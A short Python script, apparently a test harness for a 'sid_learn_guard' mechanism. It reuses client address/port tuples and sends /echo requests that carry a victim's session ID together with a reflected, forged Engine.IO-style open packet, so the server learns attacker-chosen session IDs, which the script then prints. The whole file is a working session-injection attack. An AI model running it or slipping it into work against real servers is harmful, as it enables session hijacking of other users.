#!/usr/bin/env python3
"""stale_tuple_open.py SERVER PORT ADDRS SESSIONS_JSON: from 5 address/port pairs, a plain request,
then on the same 4-tuple one with a sid whose echo reply carries an open packet of a
new sid; prints those new sids. (sid_learn_guard)"""
import json, os, socket, sys, time, urllib.parse
host, port, addrs, before = sys.argv[1], int(sys.argv[2]), sys.argv[3].split(","), json.loads(sys.argv[4])
victim = before["sessions"][0]["sid"]
def get(src, sport, path):
    for _ in range(50):
        c = socket.socket()
        c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            c.bind((src, sport))
            c.settimeout(5)
            c.connect((host, port))
            break
        except OSError:
            c.close()
            time.sleep(0.1)
    else:
        raise SystemExit(f"cannot reuse {src}:{sport}")
    c.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % path).encode())
    with c, c.makefile("rb") as f:
        return f.read()  # the worker closes after its answer
fresh = []
for k in range(5):
    src, sport = addrs[k % len(addrs)], 41000 + k
    get(src, sport, "/echo?x=plain")
    sid = "stale" + os.urandom(6).hex()
    body = '0{"sid":"%s","upgrades":[],"pingInterval":25000,"pingTimeout":20000}' % sid
    data = get(src, sport, "/echo?x=%s&sid=%s" % (urllib.parse.quote(body), victim))
    assert body.encode() in data, data[:200]
    fresh.append(sid)
print(" ".join(fresh))
